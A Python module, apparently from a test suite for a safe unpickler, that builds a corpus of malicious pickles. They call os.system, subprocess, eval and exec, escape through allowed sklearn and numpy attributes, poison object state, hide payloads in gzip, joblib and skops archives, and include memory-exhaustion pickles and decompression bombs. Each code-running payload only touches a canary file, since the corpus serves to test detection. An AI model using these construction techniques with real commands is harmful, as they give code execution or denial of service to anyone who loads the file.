"""Pickles that would do harm, made by hand. Each would create the file it is given, if any of its code ran.

`corpus(canary)` gives name → bytes. Kinds: plain calls, ways of importing, ways of compiling, reaching through what is
allowed, misuse of what is allowed, poisoned state, hidden streams, and exhaustion.
"""

import bz2
import gzip
import io
import lzma
import pickle
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from typing import Any

import numpy as np

STOP = b"."


def raw(value: Any, protocol: int = 2) -> bytes:
    """The opcodes that push a value, without header and end."""
    return pickle.dumps(value, protocol)[2:-1] if protocol >= 2 else pickle.dumps(value, protocol)[:-1]


def named(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stacked(module: str, name: str) -> bytes:
    """STACK_GLOBAL of protocol 4."""
    return b"".join(b"\x8c" + bytes([len(part)]) + part.encode() for part in (module, name)) + b"\x93"


def call(module: str, name: str, *arguments: Any) -> bytes:
    """`module.name(*arguments)` by REDUCE."""
    return b"\x80\x02" + named(module, name) + raw(arguments) + b"R" + STOP


def nested(outer: bytes, *inner: bytes) -> bytes:
    """A global called with arguments that are opcodes themselves."""
    return outer + b"(" + b"".join(inner) + b"tR"


def made(module: str, name: str) -> bytes:
    """An instance by NEWOBJ."""
    return named(module, name) + b")\x81"


def program(*parts: bytes) -> bytes:
    return b"\x80\x04" + b"".join(parts) + STOP


CALLS: tuple[tuple[str, str], ...] = (
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"), ("os", "execl"), ("os", "spawnlp"),
    ("os", "posix_spawn"), ("subprocess", "Popen"), ("subprocess", "call"), ("subprocess", "check_output"),
    ("subprocess", "run"), ("subprocess", "getoutput"), ("pty", "spawn"), ("platform", "popen"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("commands", "getoutput"),
    ("multiprocessing.util", "spawnv_passfds"), ("code", "InteractiveInterpreter"), ("pip", "main"),
    ("pip._internal", "main"), ("setuptools.sandbox", "run_setup"), ("distutils.spawn", "spawn"),
    ("numpy.f2py.crackfortran", "myeval"), ("numpy.testing", "runstring"),
    ("numpy.testing._private.utils", "runstring"),
    ("numpy.distutils.exec_command", "exec_command"), ("timeit", "main"), ("timeit", "timeit"), ("cProfile", "run"),
    ("cProfile", "runctx"), ("profile", "run"), ("trace", "Trace.run"), ("bdb", "Bdb.run"), ("pdb", "run"),
    ("doctest", "debug_script"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"), ("webbrowser", "open"),
    ("ctypes", "CDLL"), ("ctypes", "PyDLL"), ("_ctypes", "dlopen"), ("cffi", "FFI"), ("runpy", "run_path"),
    ("runpy", "_run_code"), ("importlib", "import_module"), ("importlib._bootstrap", "_gcd_import"),
    ("imp", "load_source"), ("pkgutil", "resolve_name"), ("pydoc", "locate"), ("zipimport", "zipimporter"),
    ("torch", "load"), ("torch.hub", "load"), ("torch.utils.collect_env", "run"), ("torch.serialization", "load"),
    ("torch._dynamo.guards", "GuardBuilder.get"), ("tensorflow.python.framework.load_library", "load_op_library"),
    ("pickle", "loads"), ("_pickle", "loads"), ("dill", "loads"), ("cloudpickle.cloudpickle", "_make_function"),
    ("joblib", "load"), ("joblib.numpy_pickle", "load"), ("numpy", "load"), ("numpy.lib._npyio_impl", "load"),
    ("pandas", "read_pickle"), ("pandas", "eval"), ("pandas.io.pickle", "read_pickle"), ("shelve", "open"),
    ("marshal", "loads"), ("types", "FunctionType"), ("types", "CodeType"), ("builtins", "compile"),
    ("operator", "methodcaller"), ("operator", "attrgetter"), ("functools", "reduce"), ("itertools", "starmap"),
    ("socket", "create_connection"), ("urllib.request", "urlopen"), ("http.client", "HTTPSConnection"),
    ("requests.api", "get"), ("shutil", "rmtree"), ("pathlib", "Path.unlink"), ("logging.config", "dictConfig"),
    ("unittest.mock", "_importer"), ("sklearn.utils._joblib", "Memory"), ("joblib.memory", "Memory"),
    ("sklearn.datasets", "load_files"), ("sklearn.datasets._base", "load_files"), ("numpy", "fromfile"),
    ("numpy", "memmap"), ("numpy", "vectorize"), ("scipy.io", "loadmat"), ("skops.io", "load"),
    ("ensurepip", "_run_pip"),
    ("lib2to3.pgen2.grammar", "Grammar.loads"), ("site", "addpackage"), ("threading", "Timer"), ("atexit", "register"),
)  # fmt: skip


def calls(canary: str) -> Iterator[tuple[str, bytes]]:
    """Each function by its name, with a command to run."""
    for module, name in CALLS:
        yield f"{module}.{name}", call(module, name, f"touch {canary}")
    source = f"open({canary!r}, 'w')"
    for name in ("eval", "exec"):
        yield f"builtins.{name}", call("builtins", name, source)
        yield f"__builtin__.{name}", call("__builtin__", name, source)
        yield f"stacked {name}", program(stacked("builtins", name), raw((source,)), b"R")
    yield "builtins.open", call("builtins", "open", canary, "w")
    yield "io.open", call("io", "open", canary, "w")
    yield "builtins.__import__", call("builtins", "__import__", "this")
    yield "protocol 0", b"cos\nsystem\n(S'touch " + canary.encode() + b"'\ntR."
    yield "INST", b"(S'touch " + canary.encode() + b"'\nios\nsystem\n."
    yield "OBJ", b"(cos\nsystem\nS'touch " + canary.encode() + b"'\no."
    yield "dotted name", program(stacked("sklearn", "utils._joblib.os.system"), raw((f"touch {canary}",)), b"R")
    yield (
        "through an allowed class",
        program(stacked("sklearn.pipeline", "Pipeline.__init__.__globals__"), raw(("os",)), b"R"),
    )


def reaching(canary: str) -> Iterator[tuple[str, bytes]]:
    """Chains of attributes, and functions that are allowed, led astray."""
    getattr_ = named("builtins", "getattr")
    command = raw(f"touch {canary}")
    module = nested(named("builtins", "__import__"), raw("os"))
    yield "getattr of a module", program(nested(nested(getattr_, module, raw("system")), command))
    pipeline = named("sklearn.pipeline", "Pipeline")
    globals_ = nested(getattr_, nested(getattr_, pipeline, raw("__init__")), raw("__globals__"))
    yield "getattr of a class", program(nested(getattr_, globals_, raw("get")))
    yield "getattr of an instance", program(nested(getattr_, made("sklearn.svm._classes", "SVC"), raw("__class__")))
    yield "getattr of a string", program(nested(getattr_, raw("{0.__class__}"), raw("format")))
    for module_ in ("numpy.core", "numpy._core"):
        made_ = nested(named(module_, "_ufunc_reconstruct"), raw("os"), raw("system"))
        yield f"{module_}._ufunc_reconstruct", program(nested(made_, command))
    yield "codec", program(nested(named("_codecs", "encode"), raw("x"), raw("idna")))
    bits = named("builtins", "exec")
    yield (
        "generator constructor",
        program(nested(named("numpy.random._pickle", "__generator_ctor"), raw(f"open({canary!r}, 'w')"), bits)),
    )
    allowed_bits = named("numpy", "asarray")
    yield (
        "generator by an allowed function",
        program(nested(named("numpy.random._pickle", "__generator_ctor"), raw("MT19937"), allowed_bits)),
    )
    yield "defaultdict", program(nested(named("collections", "defaultdict"), named("sklearn.metrics._ranking", "auc")))
    yield "partial", program(nested(named("functools", "partial"), named("numpy", "log1p"), raw([1])))
    check = nested(named("functools", "partial"), named("sklearn.utils.validation", "check_array"))
    state = b"(" + named("numpy", "log1p") + raw(()) + raw({}) + b"Nt"
    yield "partial's state", program(check, state, b"b")
    yield "type of a class", program(nested(named("builtins", "type"), raw("X"), raw(()), raw({})))
    yield "called value", program(nested(named("numpy", "asarray"), raw([1])))
    yield "called class", program(nested(named("sklearn.pipeline", "Pipeline"), raw([])))
    yield "called instance", program(nested(made("sklearn.svm._classes", "SVC"), raw([])))
    yield "class made with arguments", program(named("sklearn.svm._classes", "SVC"), raw((1,)), b"\x81")
    yield (
        "object scalar",
        program(
            nested(named("numpy._core.multiarray", "scalar"), nested(named("numpy", "dtype"), raw("O8")), raw(b"x"))
        ),
    )
    yield "distribution", program(made("scipy.stats._continuous_distns", "norm_gen"), raw({}), b"b")
    rebuilt = nested(
        named("copyreg", "_reconstructor"), named("subprocess", "Popen"), named("builtins", "object"), b"N"
    )
    yield "_reconstructor", program(rebuilt)
    base = nested(named("copyreg", "_reconstructor"), pipeline, named("sklearn.svm._classes", "SVC"), b"N")
    yield "_reconstructor's base", program(base)
    yield "__newobj__", program(nested(named("copyreg", "__newobj__"), named("os", "_wrap_close")))
    yield "metric of its own", program(made("sklearn.metrics._dist_metrics", "PyFuncDistance64"))


def poisoned(canary: str) -> Iterator[tuple[str, bytes]]:
    """State that would change classes, functions, or what Python looks for in an instance."""
    pipeline, instance = named("sklearn.pipeline", "Pipeline"), made("sklearn.pipeline", "Pipeline")
    state = raw({"steps": []})
    yield "state of a class", program(pipeline, b"(N" + raw({"predict": 1}) + b"t", b"b")
    yield "state of a function", program(named("sklearn.metrics._ranking", "auc"), raw({"x": 1}), b"b")
    yield "state of a ufunc", program(named("numpy", "log1p"), raw({"x": 1}), b"b")
    yield "state twice", program(instance, state, b"b", state, b"b")
    yield "__setstate__", program(instance, raw({"__setstate__": 1}), b"b")
    yield "__class__", program(instance, b"(N" + raw({"__class__": 1}) + b"t", b"b")
    yield "__reduce__", program(instance, raw({"__reduce__": 1}), b"b")
    yield "items of a class", program(pipeline, raw("x"), raw("y"), b"s")
    yield "items of an instance", program(instance, raw("x"), raw("y"), b"s")
    yield "append to an instance", program(instance, raw("x"), b"a")
    dtype = nested(named("numpy", "dtype"), raw("V8"), raw(False), raw(True))
    lying = (3, "|", None, ("a",), {"a": (np.dtype("f8"), 4)}, 8, 1, 16)
    yield "field outside", program(dtype, raw(lying), b"b")
    hidden = (3, "|", None, ("a",), {"a": (np.dtype("O"), 0)}, 8, 1, 16)
    yield "hidden objects", program(dtype, raw(hidden), b"b")
    yield "wrong size", program(dtype, raw((3, "|", None, None, None, 1 << 40, 1, 0)), b"b")


def misshapen(canary: str) -> Iterator[tuple[str, bytes]]:
    """What each allowed function would never be given by a library: a way to something else, or to a crash."""
    dtype = named("numpy", "dtype")
    f8 = nested(dtype, raw("f8"), raw(False), raw(True))
    ndarray, listing = named("numpy", "ndarray"), named("builtins", "list")
    yield "OrderedDict of text", program(nested(named("collections", "OrderedDict"), raw("ab")))
    blank = named("numpy._core.multiarray", "_reconstruct")
    yield "array of a class", program(nested(blank, listing, raw((0,)), raw(b"b")))
    yield "unknown generator", program(nested(named("numpy.random._pickle", "__bit_generator_ctor"), raw("Own")))
    buffer = named("numpy._core.numeric", "_frombuffer")
    yield "array from text", program(nested(buffer, raw("12345678"), f8, raw((1,)), raw("C")))
    masked = named("numpy.ma.core", "_mareconstruct")
    masked_array = named("numpy.ma.core", "MaskedArray")
    yield "masked array of a shape", program(nested(masked, masked_array, ndarray, raw((9,)), raw(b"b")))
    yield "ufunc that is none", program(nested(named("numpy.core", "_ufunc_reconstruct"), raw("numpy"), raw("load")))
    seed = named("numpy.random.bit_generator", "__pyx_unpickle_SeedSequence")
    yield "seed of a class", program(nested(seed, listing, raw(0), b"N"))
    yield "index of a class", program(nested(named("pandas.core.indexes.base", "_new_Index"), listing, raw({})))
    yield "buffer of text", program(nested(named("pyarrow.lib", "py_buffer"), raw("x")))
    yield "set of a range", program(nested(named("builtins", "set"), nested(named("builtins", "range"), raw(3))))
    yield "array type in words", program(nested(dtype, raw("f8,f8"), raw(False), raw(True)))
    yield "array type without state", program(f8, raw((9,)), b"b")
    yield "array type with metadata", program(f8, raw((4, "<", None, None, None, -1, -1, 0, {"a": 1})), b"b")
    wrapper = made("joblib.numpy_pickle", "NumpyArrayWrapper")
    yield "header of something else", program(wrapper, raw({"filename": "x"}), b"b")
    for name, shape in (("no sound shape", (-1,)), ("an array cut short", (2,))):
        header = {"subclass": None, "shape": shape, "order": "C", "dtype": np.dtype("f8"), "allow_mmap": False}
        yield name, b"\x80\x02" + wrapper + raw(header) + b"b" + bytes(8)
    yield "getattr of one", program(nested(named("builtins", "getattr"), named("sklearn.pipeline", "Pipeline")))
    yield "instance of a text", program(raw("x"), raw(()), b"\x81")
    yield "arguments that are none", program(named("builtins", "bytes"), raw(["x"]), b"R")
    yield "keywords that are none", program(named("sklearn.pipeline", "Pipeline"), raw(()), raw([]), b"\x92")
    yield "byte array longer than the file", program(b"\x96" + (1 << 40).to_bytes(8, "little"))
    yield "cut short", call("os", "system", f"touch {canary}")[:-1]


def hidden(canary: str) -> Iterator[tuple[str, bytes]]:
    """A harmful pickle inside something else."""
    harm = call("os", "system", f"touch {canary}")
    yield "gzip", gzip.compress(harm)
    yield "bzip2", bz2.compress(harm)
    yield "xz", lzma.compress(harm)
    yield "lzma", lzma.compress(harm, lzma.FORMAT_ALONE)
    yield "zlib", zlib.compress(harm)
    yield "nested pickle", call("pickle", "loads", harm)
    yield "in an object array", _object_array(harm)
    yield (
        "old joblib array",
        program(
            made("joblib.numpy_pickle_compat", "NDArrayWrapper"), raw({"filename": canary, "subclass": None}), b"b"
        ),
    )
    yield "after the end", pickle.dumps([1]) + harm
    yield "extension", b"\x80\x02\x82\x01."
    yield "persistent id", b"\x80\x02" + raw("x") + b"Q."
    yield "outside buffer", b"\x80\x05\x97."
    yield "skops", _skops({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"})
    yield "skops object", _skops({"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode"})
    yield (
        "skops method",
        _skops({"__class__": "Pipeline", "__module__": "sklearn.pipeline", "__loader__": "MethodNode", "content": {}}),
    )
    yield (
        "skops operator",
        _skops({"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode"}),
    )
    yield (
        "skops constructor",
        _skops(
            {
                "__class__": "bytearray",
                "__module__": "builtins",
                "__loader__": "ConstructorFromReduceNode",
                "content": {},
            }
        ),
    )
    yield "skops container", _skops({"__class__": "Popen", "__module__": "subprocess", "__loader__": "DictNode"})


def _object_array(harm: bytes) -> bytes:
    """A joblib file whose array of objects is a harmful pickle: joblib before 1.5 loads it with plain `pickle`."""
    header = {"subclass": None, "shape": (1,), "order": "C", "dtype": np.dtype("O"), "allow_mmap": False}
    return b"\x80\x02" + made("joblib.numpy_pickle", "NumpyArrayWrapper") + raw(header) + b"b" + harm + STOP


def _skops(schema: dict[str, Any]) -> bytes:
    import json

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema | {"protocol": 2, "_skops_version": "0.16.0"}))
    return buffer.getvalue()


def exhausting(canary: str) -> Iterator[tuple[str, bytes]]:
    """Pickles that would end the process or fill its memory."""
    yield "deep tuples", b"\x80\x02)" + b"\x85" * 100_000 + STOP
    yield "deep marks", b"\x80\x02" + b"(" * 100_000 + STOP
    yield "endless bytes", b"\x80\x04" + nested(named("builtins", "bytes"), raw(1 << 40)) + STOP
    yield "endless byte array", program(nested(named("builtins", "bytearray"), raw(1 << 40)))
    yield "endless set", program(nested(named("builtins", "set"), nested(named("builtins", "range"), raw(1 << 40))))
    blank = nested(
        named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), raw((1 << 40,)), raw(b"b")
    )
    yield "endless array", program(blank)
    header = {"subclass": None, "shape": (1 << 40,), "order": "C", "dtype": np.dtype("f8"), "allow_mmap": False}
    yield "endless joblib array", b"\x80\x02" + made("joblib.numpy_pickle", "NumpyArrayWrapper") + raw(header) + b"b."
    yield "endless sets", b"\x80\x04" + b"\x8f" * 100_001 + STOP
    yield "gzip bomb", _bomb()
    yield "skops bomb", _skops_bomb()


@cache
def _bomb() -> bytes:
    """Two hundred kilobytes that unpack to three hundred megabytes."""
    return gzip.compress(b"\x80\x04B" + (300 << 20).to_bytes(4, "little") + bytes(300 << 20) + b".", 6)


@cache
def _skops_bomb() -> bytes:
    """A quarter of a megabyte that unpacks to three hundred."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("schema.json", '{"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode"}')
        archive.writestr("1.bin", bytes(300 << 20))
    return buffer.getvalue()


def corpus(canary: str) -> dict[str, bytes]:
    """Name → bytes, each name once."""
    kinds = (calls, reaching, poisoned, misshapen, hidden, exhausting)
    pairs = [pair for kind in kinds for pair in kind(canary)]
    assert len(dict(pairs)) == len(pairs), "two of the corpus have one name"
    return dict(pairs)
